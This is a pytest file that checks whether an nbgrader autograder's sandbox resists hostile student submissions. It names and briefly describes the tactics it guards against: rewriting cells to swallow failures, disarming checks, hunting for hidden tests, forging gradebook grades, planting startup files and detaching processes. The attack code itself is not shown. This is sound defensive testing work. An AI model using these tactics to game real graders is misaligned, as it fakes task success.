def start_autograde(course: Path, lesson: str, *extra: str) -> subprocess.Popen:
    """``nbgrader autograde`` in the background, its log in ``course/autograde.log``."""
    with open(course / "autograde.log", "w") as log:  # the child keeps its own copy of the descriptor
        return subprocess.Popen(
            [sys.executable, "-m", "nbgrader", "autograde", lesson, "--create", "--force", *extra],
            cwd=course,
            env=nbgrader_env(),
            stdout=log,
            stderr=subprocess.STDOUT,
        )


@pytest.fixture(scope="module")
def grader_env(tmp_path_factory):
    """nbgrader imports grader/ from this checkout; the grader's IPython profile is a folder of this test."""
    with pytest.MonkeyPatch.context() as patch:
        patch.setenv("PYTHONPATH", os.pathsep.join(filter(None, [str(ROOT), os.environ.get("PYTHONPATH")])))
        patch.delenv(sandbox.SANDBOX_ENV, raising=False)
        ipythondir = tmp_path_factory.mktemp("grader-ipython")
        (ipythondir / "profile_default" / "startup").mkdir(parents=True)
        patch.setenv("IPYTHONDIR", str(ipythondir))
        yield ipythondir


@pytest.fixture(scope="module")
def runs(tmp_path_factory, grader_env, release):
    """Build the three courses, submit every student, run the three autogrades at once; one dict per run."""
    require_bwrap("the hostile submissions must be graded")
    token = f"gan-hostile-{uuid.uuid4().hex}"
    tmp = tmp_path_factory.mktemp("hostile")
    lessons = {L3: L3, L5: L5, CRASH: L3}
    # each a copy of its lesson's release (tests/conftest.py): the crash run grades lesson 3's as generated too
    courses = {key: release(lesson, tmp / key) for key, lesson in lessons.items()}
    course_paths = [str(c) for c in courses.values()]
    specs = {}
    for key, lesson in lessons.items():
        released = read(courses[key] / "notebooks" / lesson / f"{lesson}.ipynb")
        defs = def_lines(released)
        if key == L3:
            attacks = lesson3_attacks(defs, course_paths, str(grader_env), token)
        elif key == L5:
            attacks = lesson5_attacks(defs)
        else:
            attacks = crash_attacks(defs)
        for student, spec in attacks.items():
            submit(courses[key], student, lesson, submission(released, lesson, spec))
        if key != CRASH:
            submit(courses[key], "y_baseline", lesson, up_to_last_test(released))
            submit(courses[key], "z_honest", lesson, up_to_last_test(fill(released, solution_sources(lesson))))
        specs[key] = attacks
    before = {key: snapshot(course) for key, course in courses.items()}
    start = time.perf_counter()
    grading = {
        L3: start_autograde(courses[L3], L3),
        L5: start_autograde(courses[L5], L5),
        CRASH: start_autograde(
            courses[CRASH], L3, f"--Execute.timeout={CRASH_TIMEOUT}", f"--GradeOutsideKernel.timeout={CRASH_TIMEOUT}"
        ),
    }
    feedback_of = {L3: "[jz]_*", L5: "z_honest"}  # the honest student, and j_hooks, which printed what it could read
    feedback, seconds, after = {}, {}, {}
    try:
        while len(seconds) < len(grading) and time.perf_counter() - start < 1500:
            for key, process in grading.items():
                if key not in seconds and process.poll() is not None:
                    seconds[key] = time.perf_counter() - start
                    after[key] = snapshot(courses[key])  # before generate_feedback adds its own files
                    if key in feedback_of:  # while the other lesson is still being graded
                        feedback[key] = subprocess.Popen(
                            [
                                sys.executable,
                                "-m",
                                "nbgrader",
                                "generate_feedback",
                                lessons[key],
                                f"--student={feedback_of[key]}",
                                "--force",
                            ],
                            cwd=courses[key],
                            env=nbgrader_env(),
                            stdout=subprocess.PIPE,
                            stderr=subprocess.STDOUT,
                            text=True,
                        )
            time.sleep(0.5)
        feedback_logs = {key: process.communicate(timeout=600)[0] for key, process in feedback.items()}
    finally:
        for key in grading:  # a run that did not finish (killed below) is judged on what it left
            after.setdefault(key, snapshot(courses[key]))
            seconds.setdefault(key, float("inf"))
        for process in [*grading.values(), *feedback.values()]:
            if process.poll() is None:
                process.kill()
        survivors = processes_with(token)
        for pid in survivors:  # never leave an escaped attacker running on the machine
            try:
                os.kill(pid, signal.SIGKILL)
            except OSError:
                pass
    print("\n" + ", ".join(f"autograde {key}: {s:.0f} s" for key, s in seconds.items()) + " (run at the same time)")
    yield {
        key: dict(
            key=key,
            lesson=lessons[key],
            course=courses[key],
            attacks=specs[key],
            before=before[key],
            after=after[key],
            seconds=seconds[key],
            returncode=grading[key].returncode,
            log=(courses[key] / "autograde.log").read_text(errors="replace"),
            survivors=survivors,
            feedback_log=feedback_logs.get(key, ""),
        )
        for key in lessons
    }


# --- reading the results -------------------------------------------------------------------------------------------


def autograded_path(run: dict, student: str) -> Path:
    return run["course"] / "autograded" / student / run["lesson"] / f"{run['lesson']}.ipynb"


def grades(run: dict, student: str) -> dict[str, tuple[float, float]]:
    """grade_id -> (score, max score) of every autograded test cell (0 for a notebook nbgrader could not grade)."""
    try:
        table = scores(run["course"], run["lesson"], student)
    except Exception:  # noqa: BLE001 - no submission notebook in the gradebook
        table = {}
    tests = graded_cells(run["lesson"])
    return {gid: ((table[gid][0] or 0.0) if gid in table else 0.0, max_score) for gid, max_score in tests.items()}


def graded_cells(lesson: str) -> dict[str, float]:
    """grade_id -> points of every autograded test cell of ``lesson``."""
    return {
        grade_id(c): float(c.metadata["nbgrader"]["points"])
        for c in read(solution_path(lesson)).cells
        if c.cell_type == "code"
        and c.metadata.get("nbgrader", {}).get("grade")
        and not c.metadata["nbgrader"].get("solution")
    }


def outputs_text(notebook: nbformat.NotebookNode, only: str | None = None) -> str:
    """All output text of every cell (or of the cell ``only``): streams, errors, tracebacks, rich data."""
    parts = []
    for cell in notebook.cells:
        if only is not None and grade_id(cell) != only:
            continue
        for output in cell.get("outputs", []):
            if output.output_type == "stream":
                parts.append(output.text)
            elif output.output_type == "error":
                parts += [output.ename, output.evalue, *output.traceback]
            else:
                parts += [v if isinstance(v, str) else json.dumps(v) for v in output.get("data", {}).values()]
    return "\n".join(parts)


def verdict(run: dict, student: str, gid: str) -> str:
    path = autograded_path(run, student)
    if not path.exists():
        return "no autograded notebook: nbgrader could not grade it (see the autograde log)"
    return outputs_text(read(path), only=gid)[-400:].replace("\n", " | ")


def nbgrader_failure(run: dict, student: str) -> str:
    """The exceptions nbgrader logged while it graded ``student``'s notebook, when it could not grade it; or ''."""
    if autograded_path(run, student).exists():
        return ""
    part = run["log"].split(f"Creating/updating student with ID '{student}'", 1)[-1]
    part = part.split("Creating/updating student with ID", 1)[0]
    errors = [line.strip() for line in part.splitlines() if re.search(r"^\s*[\w.]+(Error|Exception): ", line)]
    return " / ".join(dict.fromkeys(errors))[-600:] or "see the autograde log"


def hidden_lines(lesson: str) -> list[str]:
    """The lines of the hidden tests (over 30 characters) that appear nowhere else: not in the student's notebook,
    not in the solutions' answers or any other part of the instructor's notebook."""
    released = read(ROOT / "notebooks" / lesson / f"{lesson}.ipynb")
    hidden, elsewhere, inside = [], [c.source for c in released.cells], False
    for cell in read(solution_path(lesson)).cells:
        for line in cell.source.splitlines():
            if "### BEGIN HIDDEN TESTS" in line:
                inside = True
            elif "### END HIDDEN TESTS" in line:
                inside = False
            elif inside:
                hidden.append(line.strip())
            else:
                elsewhere.append(line)
    known = "\n".join(elsewhere)
    lines = [line for line in dict.fromkeys(hidden) if len(line) > 30 and line not in known]
    assert lines, f"{lesson} has no hidden test lines to look for"
    return lines


def hidden_text_in(text: str, lesson: str) -> list[str]:
    return [line for line in hidden_lines(lesson) if line in text]


ATTACKERS = (
    [(L3, s) for s in ("a_ast", "b_subclass", "c_frames", "d_solutions", "e_damage", "i_monkey", "j_hooks", "k_liar")]
    + [(L5, s) for s in ("a_noop", "b_ast", "d_hunt", "g_forge", "h_killparent", "l_huge", "o_unfrozen", "p_leak")]
    + [(CRASH, s) for s in ("f_exit", "m_hang", "n_deaf")]
)


def _id(case):
    return f"{case[0]}-{case[1]}"


# --- the verdicts --------------------------------------------------------------------------------------------------


@pytest.mark.parametrize("key", [L3, L5])
def test_honest_student_keeps_full_marks_and_baseline_scores_zero(runs, key):
    run = runs[key]
    honest, baseline = grades(run, "z_honest"), grades(run, "y_baseline")
    lost = {gid: f"{s}/{m}: {verdict(run, 'z_honest', gid)}" for gid, (s, m) in honest.items() if s != m}
    assert not lost, f"{key}: z_honest (the solutions, graded after every attacker) lost points: {lost}"
    scored = {gid: f"{s}/{m}: {verdict(run, 'y_baseline', gid)}" for gid, (s, m) in baseline.items() if s != 0}
    assert not scored, f"{key}: y_baseline (the released notebook, nothing answered) scored: {scored}"


@pytest.mark.parametrize("case", ATTACKERS, ids=_id)
def test_attack_scores_no_more_than_an_honest_wrong_submission(runs, case):
    key, student = case
    run = runs[key]
    got = grades(run, student)
    baseline = grades(run, "y_baseline") if key != CRASH else {gid: (0.0, m) for gid, (_, m) in got.items()}
    keeps = KEEPS.get(case, set())
    gained = {
        gid: f"{s}/{m}: {verdict(run, student, gid)}"
        for gid, (s, m) in got.items()
        if gid not in keeps and s > baseline[gid][0]
    }
    total = sum(s for gid, (s, _) in got.items() if gid not in keeps)
    assert not gained, (
        f"{key}/{student} ({ATTACK_NAMES[student]}) BROKE THROUGH: it scored {total} points on cells "
        f"its real answers cannot pass (the honest empty submission scores 0 there): {gained}"
    )


@pytest.mark.parametrize("case", [c for c in ATTACKERS if c in KEEPS], ids=_id)
def test_a_crash_or_hang_in_one_answer_costs_that_exercise_only(runs, case):
    key, student = case
    run = runs[key]
    got = grades(run, student)
    lost = {
        gid: f"{s}/{m}: {verdict(run, student, gid)}" for gid, (s, m) in got.items() if gid in KEEPS[case] and s != m
    }
    failure = nbgrader_failure(run, student)
    assert not lost, f"{key}/{student} ({ATTACK_NAMES[student]}): its correct exercises lost their points: {lost}" + (
        f"; nbgrader could not grade the notebook at all: {failure}" if failure else ""
    )


@pytest.mark.parametrize("case", ATTACKERS, ids=_id)
def test_every_attacker_gets_an_autograded_notebook(runs, case):
    key, student = case
    run = runs[key]
    assert autograded_path(run, student).exists(), (
        f"{key}/{student} ({ATTACK_NAMES[student]}): nbgrader could not grade the notebook (so every exercise, right "
        f"or wrong, gets 0 and no feedback): {nbgrader_failure(run, student)}"
    )


@pytest.mark.parametrize("case", ATTACKERS, ids=_id)
def test_no_attacker_sees_what_it_must_not(runs, case):
    key, student = case
    run = runs[key]
    path = autograded_path(run, student)
    if not path.exists():
        pytest.skip("no autograded notebook (test_every_attacker_gets_an_autograded_notebook fails)")
    text = outputs_text(read(path))
    leaked = [line for line in text.splitlines() if LEAK in line]
    assert not leaked, f"{key}/{student} ({ATTACK_NAMES[student]}) found what it looked for: {leaked[:3]}"[:3000]
    hidden = hidden_text_in(text, run["lesson"])
    assert not hidden, (
        f"{key}/{student} ({ATTACK_NAMES[student]}): the outputs of its autograded notebook show "
        f"{len(hidden)} lines of the hidden tests, e.g. {hidden[:3]}"
    )


# What each kernel-side attack prints once it is in place: without it, a test above could pass only because the
# attack never ran.
READY = {
    (L3, "a_ast"): "every later cell is wrapped in try/except",
    (L5, "b_ast"): "every later cell is wrapped",
    (L3, "d_solutions"): "searched",
    (L3, "e_damage"): "tried",
    (L3, "j_hooks"): "hooks registered",
    (L5, "a_noop"): "helpers.checks.core disarmed",
}


@pytest.mark.parametrize("case", list(READY), ids=_id)
def test_the_kernel_side_of_each_attack_ran(runs, case):
    key, student = case
    path = autograded_path(runs[key], student)
    assert path.exists(), f"{key}/{student}: no autograded notebook"
    text = outputs_text(read(path))
    assert f"ATTACK READY: {READY[case]}" in text, (
        f"{key}/{student} ({ATTACK_NAMES[student]}) did not run in the kernel: its outputs are {text[:1000]!r}"
    )


@pytest.mark.parametrize("key", [L3, L5])
def test_outputs_of_honest_students_show_no_hidden_tests(runs, key):
    run = runs[key]
    for student in ("y_baseline", "z_honest"):
        hidden = hidden_text_in(outputs_text(read(autograded_path(run, student))), run["lesson"])
        assert not hidden, f"{key}/{student}: the outputs show lines of the hidden tests: {hidden[:3]}"


def test_damage_stays_in_the_sandbox(runs, grader_env):
    """e_damage (and every other attacker) changed no file of any course, no score, and left no process behind."""
    problems = []
    for key, run in runs.items():
        changed = sorted(
            p for p in set(run["before"]) | set(run["after"]) if run["before"].get(p) != run["after"].get(p)
        )
        if changed:
            problems.append(f"{key}: files changed during grading: {changed}")
        for path in run["course"].rglob("*"):
            if path.is_file() and PAYLOAD.encode() in path.read_bytes():
                problems.append(f"{key}: {path.relative_to(run['course'])} holds the attack's payload")
        from nbgrader.api import Gradebook

        with Gradebook(f"sqlite:///{run['course'] / 'gradebook.db'}") as gradebook:
            for student in gradebook.students:
                try:
                    notebook = gradebook.find_submission_notebook(run["lesson"], run["lesson"], student.id)
                except Exception:  # noqa: BLE001 - a notebook nbgrader could not grade
                    continue
                forged = [
                    g.name for g in notebook.grades if g.manual_score is not None or (g.auto_score or 0) > g.max_score
                ]
                if forged:
                    problems.append(f"{key}/{student.id}: grades changed in gradebook.db: {forged}")
    planted = [str(p) for p in (grader_env / "profile_default" / "startup").rglob("*")]
    if planted:
        problems.append(f"files planted in the grader's IPYTHONDIR: {planted}")
    if runs[L3]["survivors"]:
        problems.append(f"processes of the attackers still ran after grading: {runs[L3]['survivors']} (killed)")
    assert not problems, (
        "e_damage (writing the gradebook, other students' notebooks, a startup file, a detached "
        "process) broke out: " + "; ".join(problems)
    )


def test_huge_outputs_are_cut_down(runs):
    run = runs[L5]
    path = autograded_path(run, "l_huge")
    assert path.exists(), f"l_huge (huge outputs): nbgrader could not grade it: {nbgrader_failure(run, 'l_huge')}"
    size = path.stat().st_size
    assert size < 1_000_000, f"l_huge (huge outputs): its autograded notebook is {size:,} bytes"
    notebook = read(path)
    for cell in notebook.cells:
        text = sum(len(o.text) for o in cell.get("outputs", []) if o.output_type == "stream")
        assert text <= 51_000, f"l_huge (huge outputs): a cell kept {text:,} characters of printed text"
    for gid in graded_cells(L5):
        size = len(outputs_text(notebook, only=gid))
        assert size < 10_000, f"l_huge (huge results from the worker): the output of {gid} is {size:,} characters"


@pytest.mark.parametrize("student", ["m_hang", "n_deaf"])
def test_a_hang_costs_one_timeout_not_one_per_later_cell(runs, student):
    run = runs[CRASH]
    path = autograded_path(run, student)
    if not path.exists():
        pytest.skip("no autograded notebook (test_every_attacker_gets_an_autograded_notebook fails)")
    timed_out = [
        i
        for i, cell in enumerate(read(path).cells)
        if any(o.output_type == "error" and o.ename == "CellTimeoutError" for o in cell.get("outputs", []))
    ]
    assert len(timed_out) <= 1, (
        f"{student} ({ATTACK_NAMES[student]}): {len(timed_out)} cells timed out (cells "
        f"{timed_out}), {CRASH_TIMEOUT} s each: one hang must cost one timeout"
    )


@pytest.mark.parametrize("case", [(L3, "z_honest"), (L5, "z_honest"), (L3, "j_hooks")], ids=_id)
def test_feedback_shows_the_visible_tests_not_the_hidden_ones(runs, case):
    key, student = case
    run = runs[key]
    lesson = run["lesson"]
    page = run["course"] / "feedback" / student / lesson / f"{lesson}.html"
    assert page.exists(), f"{key}: no feedback for {student}: {run['feedback_log'][-2000:]}"
    raw = page.read_text()
    text = html.unescape(re.sub(r"<[^>]+>", "", raw))
    hidden = [line for line in hidden_lines(lesson) if line in text or line in raw]
    assert not hidden, (
        f"{key}: the feedback of {student} ({ATTACK_NAMES.get(student, 'the solutions')}) shows "
        f"{len(hidden)} lines of the hidden tests, e.g. {hidden[:3]}"
    )
    released = read(ROOT / "notebooks" / lesson / f"{lesson}.ipynb")
    visible = [
        line.strip()
        for c in released.cells
        if c.metadata.get("nbgrader", {}).get("grade") and c.cell_type == "code"
        for line in c.source.splitlines()
        if len(line.strip()) > 30
    ]
    missing = [line for line in visible if line not in text]
    assert visible and not missing, f"{key}: the feedback of {student} lacks lines of the visible tests: {missing[:3]}"
